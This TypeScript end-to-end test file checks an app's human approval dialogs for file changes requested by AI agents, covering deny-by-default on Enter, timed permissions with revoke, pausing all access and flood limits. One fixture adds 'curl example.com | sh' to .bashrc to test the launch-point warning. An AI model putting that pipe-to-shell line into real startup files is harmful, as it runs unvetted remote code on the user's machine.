// "Ask me first", end to end in Chromium: a change an agent asks for waits in the window on
// top of whatever section is open, says who asks what and where, shows what will change,
// and goes ahead only on the person's OK. Allow once, Deny, Enter (which denies), a call that
// stops waiting and its retry after a late OK, an hour's permission and its revoke, Pause all
// access denying what waits, and one app's sixth request refused at once. The requests are
// asked of the app's own approval service through the harness, as the change gate asks for
// an agent's call; each answer is the verdict that call gets.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { ApprovalVerdict } from '../../main/core/approvals/approval-ask.ts';
import { AskMaker } from './support/approval-asks.ts';
import { seedDataDir, type SeededDataDir } from './support/data-dir.ts';
import { WindowSession } from './support/window-session.ts';

let session: WindowSession;
let seeded: SeededDataDir;
let taxes: string;
let claude: AskMaker;

/** The shortest wait the settings allow: a call stops waiting after 5 seconds. */
const WAIT_SECONDS = 5;

before(async () => {
  seeded = await seedDataDir({
    name: 'ask',
    workspaces: { 'Taxes 2024': 'write' },
    settings: { approvals: { waitSeconds: WAIT_SECONDS, pendingMinutes: 1 } },
  });
  taxes = seeded.at('Taxes 2024');
  claude = new AskMaker(taxes, { client: 'Claude Desktop', transport: 'socket' });
  session = await WindowSession.open({
    dataDir: seeded.dataDir,
    viewport: { width: 1000, height: 860 },
  });
  await session.page.getByRole('heading', { name: 'Folders the agent can use' }).waitFor();
});

after(async () => {
  await session?.close();
  await seeded?.remove();
});

function requestDialog(title?: string) {
  return session.page.getByRole('dialog', { name: title ?? /asks to/ });
}

/** Resolves once no request waits, in the app and in the window. */
async function nothingWaits(): Promise<void> {
  await requestDialog().waitFor({ state: 'hidden' });
  const listed = await session.harness.invoke('listApprovals');
  assert.ok(listed.ok);
  assert.deepEqual(listed.data.pending, []);
}

/** Resolves once `count` requests wait in the app. */
async function untilWaiting(count: number): Promise<void> {
  for (;;) {
    const listed = await session.harness.invoke('listApprovals');
    assert.ok(listed.ok);
    if (listed.data.pending.length >= count) return;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

/**
 * Presses Enter on the request titled so, once Deny has the focus (it takes it back after
 * each answer is in): what a person does who answers one request after another by Enter.
 */
async function enterOn(title: string): Promise<void> {
  await requestDialog(title).waitFor();
  await session.page.waitForFunction(
    () =>
      document.activeElement instanceof HTMLButtonElement &&
      document.activeElement.textContent === 'Deny' &&
      !document.activeElement.disabled,
  );
  await session.page.keyboard.press('Enter');
}

/** Whether the element with focus is the button named so. */
async function focusedButton(): Promise<string | null> {
  return session.page.evaluate(() =>
    document.activeElement instanceof HTMLButtonElement ? document.activeElement.textContent : null,
  );
}

describe('a change waiting for your OK', () => {
  it('shows who asks, where, and the lines that change; Allow once lets that call through', async () => {
    const { page } = session;
    const ask = claude.edit(
      'budget.txt',
      'rent 900\nfood 300\nbus 60\n',
      'rent 900\nfood 450\nbus 60\n',
    );
    const verdict = session.harness.askApproval(ask);
    const dialog = requestDialog('Claude Desktop asks to edit budget.txt');
    await dialog.waitFor();
    await dialog.getByText('A change is waiting for your OK').waitFor();
    await dialog.getByText('through the local connection').waitFor();
    await dialog.getByText(taxes, { exact: true }).waitFor();
    const lines = await dialog
      .getByRole('list', { name: 'Changes to the text of budget.txt' })
      .getByRole('listitem')
      .allInnerTexts();
    assert.deepEqual(
      lines.map((line) => line.replace(/\s+/g, ' ').trim()),
      ['rent 900', '− Removed: food 300', '+ Added: food 450', 'bus 60'],
    );
    await dialog.getByText('You can undo this later, in Activity or Changes.').waitFor();
    // Each answer states its scope next to it, and is read with it.
    const once = dialog.getByRole('button', { name: 'Allow once', exact: true });
    assert.equal(
      await once.evaluate(
        (button) =>
          document.getElementById(button.getAttribute('aria-describedby') ?? '')?.textContent,
      ),
      'Only this change, this one time.',
    );
    assert.equal(await focusedButton(), 'Deny', 'Deny has the focus');
    await session.assertAccessibleInBothThemes();
    await session.screenshots('approval-request');

    await once.click();
    const answer = await verdict;
    assert.ok(answer.granted);
    assert.equal(answer.scope, 'once');
    await nothingWaits();
    await page
      .getByRole('status')
      .filter({ hasText: 'You allowed Claude Desktop to edit budget.txt, once.' })
      .waitFor();
    session.assertNoPageProblems();
  });

  it('tells the call the person declined when they press Deny, and changes nothing', async () => {
    const verdict = session.harness.askApproval(claude.deleteFile('report.pdf'));
    const dialog = requestDialog('Claude Desktop asks to delete report.pdf');
    await dialog.getByText('PDF document: 47.1 KB.').waitFor();
    await dialog.getByRole('button', { name: 'Deny', exact: true }).click();
    const answer = await verdict;
    assert.equal(answer.granted, false);
    assert.equal(!answer.granted && answer.refusal, 'denied');
    await nothingWaits();
    await session.page
      .getByRole('status')
      .filter({ hasText: 'You did not let Claude Desktop delete report.pdf.' })
      .waitFor();
  });

  it('denies on Enter: the focus is on Deny, so Enter never grants anything', async () => {
    const verdict = session.harness.askApproval(claude.deleteFile('summary.pdf'));
    await enterOn('Claude Desktop asks to delete summary.pdf');
    const answer = await verdict;
    assert.equal(!answer.granted && answer.refusal, 'denied');
    await nothingWaits();
  });

  it('keeps a request the call stopped waiting for; once allowed late, the same call retried goes through', async () => {
    const ask = claude.create('notes.md', '# Notes\n\nTo do: file the return.\n');
    const started = Date.now();
    const first = await session.harness.askApproval(ask);
    assert.equal(!first.granted && first.refusal, 'waiting', 'the agent is told to ask again');
    assert.ok(
      Date.now() - started >= WAIT_SECONDS * 1000 - 100,
      'after the wait the settings allow',
    );
    // The request outlives the call: it is still in the window.
    const dialog = requestDialog('Claude Desktop asks to create notes.md');
    assert.match(
      await dialog.getByLabel('The first lines of notes.md').innerText(),
      /^# Notes\n\nTo do: file the return\.\n?$/,
    );
    await dialog.getByRole('button', { name: 'Allow once', exact: true }).click();
    await nothingWaits();
    const retried = Date.now();
    const second = await session.harness.askApproval(ask);
    assert.deepEqual(second, { granted: true, approvalId: first.approvalId, scope: 'once' });
    assert.ok(Date.now() - retried < 1000, 'the retry is not asked again');
    // Once only: the same call a third time is asked anew.
    const third = session.harness.askApproval(ask);
    await enterOn('Claude Desktop asks to create notes.md');
    assert.equal((await third).granted, false);
    await nothingWaits();
  });

  it('allows an app for an hour in a folder, lists it in Folders with the time left, and revokes it', async () => {
    const { page } = session;
    const verdict = session.harness.askApproval(claude.deleteFile('2019.pdf'));
    const dialog = requestDialog('Claude Desktop asks to delete 2019.pdf');
    const hour = dialog.getByRole('button', {
      name: 'Allow this app to change files in this folder for 1 hour',
    });
    await dialog
      .getByText(/^Claude Desktop may change any file in Taxes 2024 without asking you, until /)
      .waitFor();
    await hour.click();
    const allowed = await verdict;
    assert.equal(allowed.granted && allowed.scope, 'hour');
    await nothingWaits();

    // Another change by the same app in the same folder goes through without asking.
    const next = await session.harness.askApproval(claude.deleteFile('2020.pdf'));
    assert.equal(next.granted && next.scope, 'hour');

    const standing = page.getByRole('region', { name: 'Allowed for 1 hour' });
    await standing
      .getByText('Claude Desktop may change files in Taxes 2024 without asking.')
      .waitFor();
    await standing.getByText(/Until .+, (59|60) minutes left\./).waitFor();
    await session.assertAccessibleInBothThemes();
    await session.screenshots('approval-standing', page.getByRole('main', { name: 'Folders' }));

    await standing.getByRole('button', { name: /^Revoke/ }).click();
    await standing
      .getByText('Claude Desktop asks you again before changing files there.')
      .waitFor();
    const listed = await session.harness.invoke('listApprovals');
    assert.ok(listed.ok);
    assert.deepEqual(listed.data.standing, []);
    // Asked again, now that the permission is gone.
    const again = session.harness.askApproval(claude.deleteFile('2021.pdf'));
    await enterOn('Claude Desktop asks to delete 2021.pdf');
    assert.equal((await again).granted, false);
    await nothingWaits();
  });

  it('never offers an hour for a file that can make programs run, and says what it is', async () => {
    const verdict = session.harness.askApproval(
      claude.replaceLaunchPoint(
        '.bashrc',
        'alias ll="ls -l"\n',
        'alias ll="ls -l"\ncurl example.com | sh\n',
      ),
    );
    const dialog = requestDialog('Claude Desktop asks to replace .bashrc');
    await dialog
      .getByText('This file can make programs run on your computer.', { exact: false })
      .waitFor();
    assert.deepEqual(
      await dialog.getByRole('group', { name: 'Your answer' }).getByRole('button').allInnerTexts(),
      ['Deny', 'Allow once'],
    );
    await session.assertAccessibleInBothThemes();
    await session.screenshots('approval-launch-point');
    await dialog.getByRole('button', { name: 'Deny', exact: true }).click();
    assert.equal((await verdict).granted, false);
    await nothingWaits();
  });

  it('denies everything waiting when the person pauses all access, after putting the requests off', async () => {
    const { page } = session;
    const cursor = claude.as({ client: 'Cursor', transport: 'http', keyName: 'cursor' });
    const first = session.harness.askApproval(claude.deleteFile('a.pdf'));
    const second = session.harness.askApproval(cursor.edit('plan.txt', 'one\n', 'two\n'));
    const dialog = requestDialog('Claude Desktop asks to delete a.pdf');
    await dialog.getByText('1 of 2 changes waiting for your OK').waitFor();
    await dialog.getByText('Cursor asks to edit plan.txt').waitFor();
    // Escape puts them off: the window is usable, and a line keeps them in sight.
    await page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'hidden' });
    const banner = page.getByRole('region', { name: 'Changes waiting for your OK' });
    await banner.getByText('2 changes waiting for your OK.').waitFor();
    await page.getByRole('button', { name: 'Pause all access' }).click();
    for (const verdict of [await first, await second])
      assert.equal(!verdict.granted && verdict.refusal, 'paused');
    await banner.waitFor({ state: 'hidden' });
    await nothingWaits();
    await page.getByRole('button', { name: 'Resume access' }).click();
    await page.getByRole('button', { name: 'Pause all access' }).waitFor();
  });

  it('refuses an app’s sixth request at once while five of its own wait, and shows them in order', async () => {
    const { page } = session;
    const folders = ['Receipts', 'Scans', 'Letters', 'Old', 'Drafts'];
    const five: Promise<ApprovalVerdict>[] = [];
    for (const [index, name] of folders.entries()) {
      five.push(
        session.harness.askApproval(
          claude.deleteFolder(name, [`${name}/march.pdf`, `${name}/april.pdf`], 1024 * (index + 1)),
        ),
      );
      // One after the other, so their order is the order they were asked.
      await untilWaiting(index + 1);
    }
    const started = Date.now();
    const sixth = await session.harness.askApproval(claude.deleteFile('sixth.pdf'));
    assert.equal(!sixth.granted && sixth.refusal, 'flood');
    assert.ok(Date.now() - started < 1000, 'refused at once, without asking');

    const dialog = requestDialog('Claude Desktop asks to delete Receipts');
    await dialog.getByText('1 of 5 changes waiting for your OK').waitFor();
    await dialog.getByText('It holds 2 files, 1 KB.').waitFor();
    await dialog.getByRole('list', { name: 'Some of what is in Receipts' }).waitFor();
    assert.deepEqual(
      await dialog.locator('.approval-next li').allInnerTexts(),
      folders.slice(1).map((name) => `Claude Desktop asks to delete ${name}`),
    );
    assert.equal(
      await page.getByText('sixth.pdf').count(),
      0,
      'the sixth never reached the window',
    );
    await session.assertAccessibleInBothThemes();
    await session.screenshots('approval-several');
    for (const name of folders) await enterOn(`Claude Desktop asks to delete ${name}`);
    for (const verdict of await Promise.all(five)) assert.equal(verdict.granted, false);
    await nothingWaits();
    session.assertNoPageProblems();
  });
});

describe('how fast the window shows a request and the call gets its answer', () => {
  const SAMPLES = 10;

  /** Milliseconds: the middle one and the largest. */
  function spread(samples: readonly number[]): { median: number; max: number } {
    const sorted = [...samples].sort((a, b) => a - b);
    return { median: sorted[Math.floor(sorted.length / 2)] ?? NaN, max: sorted.at(-1) ?? NaN };
  }

  it('shows the request within 250 ms of the call, and answers the call within 100 ms of Allow', async () => {
    const { page } = session;
    // In the page: when each request is first painted, and when an answer is clicked.
    await page.evaluate(() => {
      const marks = window as unknown as { shownAt: Record<string, number>; clickedAt: number };
      marks.shownAt = {};
      new MutationObserver(() => {
        const title = document.querySelector('dialog.approval-dialog[open] h2')?.textContent;
        if (!title || title in marks.shownAt) return;
        marks.shownAt[title] = 0;
        requestAnimationFrame(() => (marks.shownAt[title] = Date.now()));
      }).observe(document.body, { subtree: true, childList: true, attributes: true });
      document.addEventListener(
        'click',
        (event) => {
          if ((event.target as Element).closest('.approval-choices')) marks.clickedAt = Date.now();
        },
        true,
      );
    });
    const shown: number[] = [];
    const answered: number[] = [];
    for (let sample = 0; sample < SAMPLES; sample++) {
      const title = `Claude Desktop asks to delete timing-${sample}.pdf`;
      const asked = Date.now();
      const verdict = session.harness.askApproval(claude.deleteFile(`timing-${sample}.pdf`));
      const shownAt = await page.waitForFunction(
        (wanted) =>
          (window as unknown as { shownAt: Record<string, number> }).shownAt[wanted] || false,
        title,
      );
      shown.push(((await shownAt.jsonValue()) as number) - asked);
      await requestDialog(title).getByRole('button', { name: 'Allow once', exact: true }).click();
      const answer = await verdict;
      const done = Date.now();
      assert.ok(answer.granted);
      const clickedAt = await page.evaluate(
        () => (window as unknown as { clickedAt: number }).clickedAt,
      );
      answered.push(done - clickedAt);
      await nothingWaits();
    }
    const visible = spread(shown);
    const answer = spread(answered);
    console.log(
      `approvals: request visible in the window ${visible.median} ms after the call (median of ${SAMPLES}, max ${visible.max} ms); ` +
        `approved call answered ${answer.median} ms after the click (median, max ${answer.max} ms)`,
    );
    assert.ok(visible.median <= 250, `the request showed after ${visible.median} ms`);
    assert.ok(answer.median <= 100, `the call was answered ${answer.median} ms after the click`);
  });
});
